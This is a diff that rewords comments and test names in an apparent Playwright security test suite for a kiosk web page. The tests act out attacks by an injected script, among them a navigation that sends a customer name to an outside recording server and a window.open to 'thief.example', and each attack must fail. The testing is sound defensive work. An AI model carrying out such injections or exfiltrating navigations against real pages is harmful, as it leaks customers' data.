@@ -1,11 +1,11 @@
-/** What a script that got into the page could try next. Each attack is carried out, and must fail. */
+/** Attacks by a script that got into the page. Each is carried out, and must fail. */
 import type { Page } from '@playwright/test';
 import { createServer } from 'node:http';
 import type { AddressInfo } from 'node:net';
 import { comeToTheTakenShot, startOrder } from './support/order.ts';
 import { expect, test as base } from './support/test.ts';
 
-/** A place beyond the kiosk that notes who came. No test may bring anyone there. */
+/** A server outside the kiosk that records visitors. No test may cause a visit. */
 const test = base.extend<{ readonly elsewhere: string }>({
   // eslint-disable-next-line no-empty-pattern -- Playwright reads a fixture's needs from this pattern
   elsewhere: async ({}, use) => {
@@ -23,7 +23,7 @@ const test = base.extend<{ readonly elsewhere: string }>({
   },
 });
 
-/** Puts an element into the page, and gives the policy's directive that refused what it asks for. */
+/** Puts an element into the page, and returns the policy's directive that refused its request. */
 function refusalOf(
   page: Page,
   tag: string,
@@ -54,9 +54,7 @@ function refusalOf(
   );
 }
 
-test('the page knows no Node, no cookie and no token, and runs nothing that is not its own', async ({
-  page,
-}) => {
+test('the page knows no Node, no cookie and no token, and runs only its own code', async ({ page }) => {
   const found = await page.evaluate(() => ({
     node: ['require', 'process', 'module', 'Buffer', '__dirname'].filter((name) => name in globalThis),
     cookie: document.cookie,
@@ -67,7 +65,7 @@ test('the page knows no Node, no cookie and no token, and runs nothing that is n
 
   expect(await refusalOf(page, 'script', {}, 'globalThis.broken = true')).toBe('require-trusted-types-for');
   expect(await page.evaluate(() => 'broken' in globalThis)).toBe(false);
-  // In a task of its own: what the debugger itself evaluates is exempt from the policy.
+  // In a task of its own, because code that the debugger evaluates is exempt from the policy.
   const evaluated = await page.evaluate(
     () =>
       new Promise<string>((resolve) => {
@@ -124,13 +122,13 @@ test('nothing is loaded from elsewhere, and nothing sent there', async ({ page, 
     'script-src-elem',
   ]);
 
-  // No content security policy covers where a page goes. That nobody came is what the fixture asks.
+  // No content security policy covers navigation. The fixture checks that there was no visit.
   const left = page.waitForEvent('requestfailed');
   await page.evaluate((address) => void (location.href = `${address}/leave?customer=Ada`), elsewhere);
   await left;
 });
 
-test('no markup is made of text, and no way is open to make some', async ({ page }) => {
+test('no markup is made from text, and no way to make it is open', async ({ page }) => {
   const refused = await page.evaluate(() => {
     const outcomeOf = (work: () => unknown): string => {
       try {
@@ -177,7 +175,7 @@ test('pictures and calls are for this page only, and the photo route knows ids a
   }
 });
 
-test('no one else may frame the kiosk, and a window that it opens has no way back', async ({
+test('no other page may frame the kiosk, and a window that it opens has no way back', async ({
   page,
   context,
 }) => {
@@ -188,7 +186,7 @@ test('no one else may frame the kiosk, and a window that it opens has no way bac
   const opened = context.waitForEvent('page');
   await page.evaluate(() => void window.open('http://thief.example/'));
   const thief = await opened;
-  // Chromium shows an error page of its own in the place of what may not be framed.
+  // Chromium shows its own error page in place of a page that may not be framed.
   await expect
     .poll(() => thief.frames().map((frame) => frame.url()))
     .toContain('chrome-error://chromewebdata/');
